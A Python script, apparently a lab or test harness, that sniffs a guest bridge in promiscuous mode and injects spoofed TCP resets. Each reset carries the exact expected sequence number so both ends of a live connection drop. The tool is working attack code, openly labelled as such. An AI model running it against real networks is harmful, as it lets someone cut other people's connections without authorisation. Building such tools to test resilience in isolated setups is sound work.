#!/usr/bin/env python3
"""Injects TCP resets into a live connection from outside both ends: an attacker (or a middlebox)
on the guests' bridge. Usage: inject-reset.py BRIDGE PORT SECONDS

Watches the bridge for the connection to PORT (either direction). Once it has seen traffic both
ways, it sends each end a reset with the sequence number that end expects next (the
acknowledgement number of that end's latest segment: RFC 5961 makes TCP accept a reset only at
exactly that number), again as new segments show that number moving, until no segment of the
connection has passed for two seconds after a reset, or SECONDS pass. Prints what it sent.
Standard library only (AF_PACKET); run it in the namespace that holds the bridge.
"""
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def parse(frame):
    """(eth dst, eth src, ip src, ip dst, sport, dport, seq, ack, flags, payload length) of a TCP/IPv4
    frame, or None."""
    if len(frame) < 54 or struct.unpack("!H", frame[12:14])[0] != ETH_P_IP:
        return None
    ip = frame[14:]
    ihl = (ip[0] & 0x0F) * 4
    if ip[9] != socket.IPPROTO_TCP:
        return None
    total = struct.unpack("!H", ip[2:4])[0]
    tcp = ip[ihl:]
    sport, dport, seq, ack = struct.unpack("!HHII", tcp[:12])
    doff = (tcp[12] >> 4) * 4
    flags = tcp[13]
    return frame[0:6], frame[6:12], ip[12:16], ip[16:20], sport, dport, seq, ack, flags, total - ihl - doff


def reset(eth_dst, eth_src, ip_src, ip_dst, sport, dport, seq):
    """An Ethernet frame holding a TCP reset (no ACK) from ip_src:sport to ip_dst:dport at seq."""
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x04, 0, 0, 0)
    pseudo = ip_src + ip_dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0x7777, 0, 64, socket.IPPROTO_TCP, 0, ip_src, ip_dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return eth_dst + eth_src + struct.pack("!H", ETH_P_IP) + ip + tcp


def main():
    bridge, port, secs = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((bridge, 0))
    # Promiscuous: the bridge passes frames it forwards between the guests up to us only then.
    SOL_PACKET, PACKET_ADD_MEMBERSHIP, PACKET_MR_PROMISC = 263, 1, 1
    s.setsockopt(SOL_PACKET, PACKET_ADD_MEMBERSHIP, struct.pack("iHH8s", socket.if_nametoindex(bridge), PACKET_MR_PROMISC, 0, b""))
    s.settimeout(0.2)
    # Per direction (src ip, src port): the latest segment's (eth dst, eth src, ip src, ip dst,
    # sport, dport, ack); the ack is what the sending end expects next from the other.
    latest = {}
    sent = {}  # (ip, port) of the end reset -> the sequence numbers used
    start = time.time()
    quiet_since = None
    while time.time() - start < secs:
        try:
            frame = s.recv(65535)
        except socket.timeout:
            frame = None
        if frame:
            p = parse(frame)
            if p and port in (p[4], p[5]) and not p[8] & 0x04:
                eth_dst, eth_src, ip_src, ip_dst, sport, dport, seq, ack, flags, length = p
                latest[(ip_src, sport)] = (eth_dst, eth_src, ip_src, ip_dst, sport, dport, ack)
                quiet_since = None
        if len(latest) == 2:
            for (ip, sport), (eth_dst, eth_src, ip_src, ip_dst, _, dport, ack) in list(latest.items()):
                # A reset to this segment's sender, as from its peer, at the number it expects.
                used = sent.setdefault((ip, sport), set())
                if ack not in used:
                    s.send(reset(eth_src, eth_dst, ip_dst, ip_src, dport, sport, ack))
                    used.add(ack)
            if quiet_since is None:
                quiet_since = time.time()
            elif time.time() - quiet_since > 2:
                break
    for (ip, sport), used in sent.items():
        print("inject-reset: %d reset(s) to %s:%d" % (len(used), socket.inet_ntoa(ip), sport))
    if len(sent) != 2:
        print("inject-reset: the connection to port %d was not seen both ways" % port)
        sys.exit(1)


if __name__ == "__main__":
    main()
